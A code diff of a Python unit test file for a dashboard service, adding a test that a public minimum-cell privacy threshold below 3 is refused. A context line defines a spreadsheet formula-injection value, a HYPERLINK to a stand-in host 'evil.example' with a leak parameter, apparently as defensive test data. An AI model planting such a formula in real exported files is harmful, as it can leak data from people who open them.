@@ -9,11 +9,13 @@ import io
 from typing import Any
 
 import pytest
+from pydantic import ValidationError
 
 from services.contracts import CloudEvent
 from services.dashboard import public as public_module
+from services.dashboard.settings import DashboardSettings
 from tests.unit.dashboard.test_dashboard_brief import PEOPLE
-from tests.unit.dashboard.test_dashboard_http import Harness
+from tests.unit.dashboard.test_dashboard_http import USERS, Harness
 from tests.unit.dashboard.test_dashboard_stats import report
 
 FORMULA_AREA = '=HYPERLINK("http://evil.example/?leak=1","Seved")'
@@ -153,3 +155,14 @@ def test_every_view_comes_from_one_grid_computed_once_per_change_of_the_incident
     dash.pipe.post(report("ev-later", "inc-later", "2024-02-01T12:00:00Z", area="Seved"))
     dash.client.get("/public/stats")
     assert len(built) == 2
+
+
+@pytest.mark.parametrize(("value", "accepted"), [("2", False), ("3", True), ("10", True)])
+def test_a_threshold_that_would_show_every_one_as_below_two_is_refused(value: str, accepted: bool) -> None:
+    """Zeros are shown, so `<2` would always be exactly 1: the setting starts at 3."""
+    settings = {"GVI_ENV": "development", "GVI_USERS_FILE": USERS, "GVI_PUBLIC_MIN_CELL": value}
+    if accepted:
+        assert DashboardSettings(**settings).public_min_cell == int(value)
+    else:
+        with pytest.raises(ValidationError, match="GVI_PUBLIC_MIN_CELL"):
+            DashboardSettings(**settings)
